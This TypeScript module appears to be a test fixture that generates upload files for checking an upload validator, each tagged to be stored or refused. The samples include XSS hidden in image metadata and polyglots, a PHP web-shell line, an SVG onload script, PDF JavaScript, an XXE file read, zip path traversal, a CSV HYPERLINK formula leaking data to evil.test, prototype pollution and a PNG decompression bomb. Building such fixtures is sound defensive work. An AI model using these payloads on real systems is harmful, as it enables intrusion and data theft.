import { crc32, deflateSync } from 'node:zlib'
import iconv from 'iconv-lite'
import sharp from 'sharp'
import { writeZip } from './_zip.ts'

export interface UploadBytes {
  readonly name: string
  readonly bytes: Buffer<ArrayBuffer>
  /** Result of an upload as a picture. */
  readonly picture: 'stored' | 'refused'
  /** Result of an upload as a shared file. */
  readonly shared: 'stored' | 'refused'
}

const SCRIPT = '<script>alert(1)</script>'
const create = { width: 3, height: 2, channels: 3, background: '#1f5f63' } as const

/** Files with mismatching bytes, names and types, and some valid ones. */
export async function makeUploadBytes(): Promise<UploadBytes[]> {
  const raster = sharp({ create })
  const [png, jpeg, webp, gif] = await Promise.all(
    (['png', 'jpeg', 'webp', 'gif'] as const).map((format) => raster.clone()[format]().toBuffer()),
  )
  if (!png || !jpeg || !webp || !gif) throw new Error('sharp returned no picture')
  const page = `<html><body>${SCRIPT}</body></html>`
  const both = (name: string, bytes: Buffer | string) => made(name, bytes, 'stored', 'stored')
  const neither = (name: string, bytes: Buffer | string) => made(name, bytes, 'refused', 'refused')
  const shareable = (name: string, bytes: Buffer | string) => made(name, bytes, 'refused', 'stored')
  return [
    both('true.png', png),
    both('true.jpg', jpeg),
    both('true.webp', webp),
    both('true.gif', gif),
    both('script-behind.gif', Buffer.concat([gif, Buffer.from(SCRIPT)])),
    both('script-behind.png', Buffer.concat([png, Buffer.from(SCRIPT)])),
    both('script-in-text.png', insertChunk(png, 'tEXt', Buffer.from(`Comment\0${SCRIPT}`))),
    both(
      'script-in-profile-name.png',
      insertChunk(png, 'iTXt', Buffer.from(`a\0\0\0\0\0${SCRIPT}`)),
    ),
    both('script-in-comment.jpg', insertComment(jpeg, SCRIPT)),
    both(
      'archive-behind.gif',
      Buffer.concat([gif, writeZip([{ name: 'a.html', bytes: Buffer.from(page) }])]),
    ),
    neither('magic-and-script.gif', `GIF89a/*${SCRIPT}*/=alert(1)`),
    neither('magic-and-script.png', Buffer.concat([png.subarray(0, 8), Buffer.from(SCRIPT)])),
    neither('page.png', page),
    neither('page.jpg', `\n \t<!DOCTYPE html>${page}`),
    neither('script.jpg', 'self.addEventListener("fetch", () => {})'),
    neither('php.gif', '<?php system($_GET["c"]); ?>'),
    made(
      'drawing.png',
      '<svg xmlns="http://www.w3.org/2000/svg" width="3" height="2" onload="alert(1)"/>',
      'stored',
      'refused',
    ),
    neither('windows.png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])),
    neither(
      'linux.jpg',
      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)]),
    ),
    neither('java.png', Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(200)])),
    neither('huge.png', claimSize(png, 60_000)),
    neither('no-size.png', claimSize(png, 0)),
    neither('cut.png', png.subarray(0, 30)),
    neither('cut.jpg', jpeg.subarray(0, 40)),
    neither('bomb.png', bomb()),
    neither('empty.png', ''),
    neither('climbs.zip', writeZip([{ name: '../../evil.txt' }, { name: 'ok.txt' }])),
    neither('empty.zip', writeZip([])),
    neither('empty.bin', ''),
    neither('nul.md', `# 标题\0\0\0\n${'\0'.repeat(100)}`),
    neither('program.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])),
    shareable(
      'opens-script.pdf',
      '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
    ),
    shareable('whole.zip', writeZip([{ name: 'ok.txt' }])),
    shareable('gbk.md', iconv.encode('# 标题\n\n中文正文，一段。\n', 'gbk')),
    shareable('formulas.csv', '姓名,分数\n=HYPERLINK("https://evil.test/?"&A1),1\n@SUM(1),2\n'),
    shareable(
      'entity.xml',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
    ),
    shareable('prototype.json', '{"__proto__":{"admin":true},"constructor":{"prototype":{"a":1}}}'),
  ]
}

function made(
  name: string,
  bytes: Buffer | string,
  picture: UploadBytes['picture'],
  shared: UploadBytes['shared'],
): UploadBytes {
  return { name, bytes: Buffer.from(bytes), picture, shared }
}

const IHDR_END = 33

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const frame = Buffer.alloc(4)
  frame.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([frame, body, sum])
}

function insertChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, IHDR_END), chunk(type, data), png.subarray(IHDR_END)])
}

function insertComment(jpeg: Buffer, text: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, text.length + 2])
  return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(text), jpeg.subarray(2)])
}

/** The same picture with another size in its header and a valid checksum. */
function claimSize(png: Buffer, size: number): Buffer {
  const data = Buffer.from(png.subarray(16, 29))
  data.writeUInt32BE(size, 0)
  data.writeUInt32BE(size, 4)
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', data), png.subarray(IHDR_END)])
}

/** A gigabyte of pixels in a megabyte. */
function bomb(): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(30_000, 0)
  header.writeUInt32BE(30_000, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(3751 * 1000))
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
